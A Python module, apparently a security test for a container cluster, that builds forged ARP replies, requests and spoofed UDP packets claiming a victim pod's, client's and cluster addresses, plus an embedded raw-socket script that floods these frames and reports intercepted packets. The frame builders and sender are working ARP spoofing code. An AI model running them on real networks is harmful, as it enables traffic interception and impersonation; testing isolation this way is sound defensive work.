"""Frames with which a pod tries to take over the address of another one, and the program that sends them."""

from __future__ import annotations

import struct
from ipaddress import IPv4Address

from skysail.local.addresses import CLUSTER_IP
from skysail.local.network.interfaces import SERVICES_ADDRESS
from skysail.local.network.neighbours import hardware_address

EVERYBODY = b"\xff" * 6
NOBODY = bytes(6)
RANDOM = bytes.fromhex("02dead00beef")
# Sends the frames again and again until it is ended, and tells of each packet for ADDRESS that comes its way.
# usage: ADDRESS FRAME...
ATTACK = """
import select, socket, sys
address, frames = socket.inet_aton(sys.argv[1]), [bytes.fromhex(frame) for frame in sys.argv[2:]]
try:
    line = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0003))
    line.bind(("eth0", 0))
except OSError as error:
    print("refused", error.strerror, flush=True)
    sys.exit()
mine = line.getsockname()[4]
frames = [frame.replace(bytes.fromhex("02000a0b0c0d"), mine) for frame in frames]
sent = 0
while True:
    for frame in frames:
        line.send(frame)
    sent += 1
    if sent == 20:
        print("attacks", flush=True)
    while select.select([line], [], [], 0.01)[0]:
        packet, (_, _, kind, _, _) = line.recvfrom(65536)
        if kind != socket.PACKET_OUTGOING and packet[12:14] == bytes([8, 0]) and packet[30:34] == address:
            print("stolen", packet[26:30].hex(), flush=True)
"""
# Stands for the attacker's own hardware address, which only its pod knows.
MINE = bytes.fromhex("02000a0b0c0d")
REQUEST, REPLY = 1, 2


def attacks(victim: str, client: str) -> dict[str, str]:
    """Frames in hex, by name. Each claims something of the victim, or of the way between it and the client."""
    to_client, to_cluster, of_victim = mac(client), mac(CLUSTER_IP), mac(victim)
    return {
        "gratuitous request": arp(REQUEST, victim, NOBODY, victim),
        "gratuitous reply": arp(REPLY, victim, EVERYBODY, victim),
        "reply to the client": arp(REPLY, victim, to_client, client, to=to_client),
        "request to the client": arp(REQUEST, victim, NOBODY, client, to=to_client),
        "reply to the cluster": arp(REPLY, victim, to_cluster, CLUSTER_IP, to=to_cluster),
        "request to the cluster": arp(REQUEST, victim, NOBODY, CLUSTER_IP, to=to_cluster),
        "the client's address, told to the victim": arp(REPLY, client, of_victim, victim, to=of_victim),
        "the cluster's address": arp(REPLY, CLUSTER_IP, EVERYBODY, CLUSTER_IP),
        "the address of Services": arp(REPLY, SERVICES_ADDRESS, EVERYBODY, SERVICES_ADDRESS),
        "a hardware address of nobody": arp(REPLY, victim, EVERYBODY, victim, sender=RANDOM),
        "the victim's hardware address": arp(REPLY, victim, EVERYBODY, victim, sender=of_victim, source=of_victim),
        "a packet from the victim's hardware address": ip_packet(victim, client, to_client, of_victim),
        "a packet to everybody from the victim's": ip_packet(victim, client, EVERYBODY, of_victim),
        "the client's hardware address": ip_packet(client, victim, of_victim, to_client),
    }


def mac(address: str) -> bytes:
    return bytes.fromhex(hardware_address(address).replace(":", ""))


def arp(  # noqa: PLR0913 (as many as an ARP message has)
    operation: int,
    claims: str,
    target: bytes,
    asks_for: str,
    *,
    to: bytes = EVERYBODY,
    sender: bytes = MINE,
    source: bytes = MINE,
) -> str:
    """`claims`: the address that is said to be at `sender`."""
    head = to + source + struct.pack("!H", 0x0806)
    body = struct.pack("!HHBBH", 1, 0x0800, 6, 4, operation)
    return (head + body + sender + IPv4Address(claims).packed + target + IPv4Address(asks_for).packed).hex()


def ip_packet(source: str, target: str, to: bytes, from_: bytes) -> str:
    """A UDP packet without content, to a port at which nobody listens."""
    udp = struct.pack("!HHHH", 9, 9, 8, 0)
    head = struct.pack("!BBHHHBBH", 0x45, 0, 28, 0, 0, 64, 17, 0)
    addresses = IPv4Address(source).packed + IPv4Address(target).packed
    total = sum(struct.unpack("!10H", head + addresses))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    checksum = ~total & 0xFFFF
    head = head[:10] + struct.pack("!H", checksum)
    return (to + from_ + struct.pack("!H", 0x0800) + head + addresses + udp).hex()
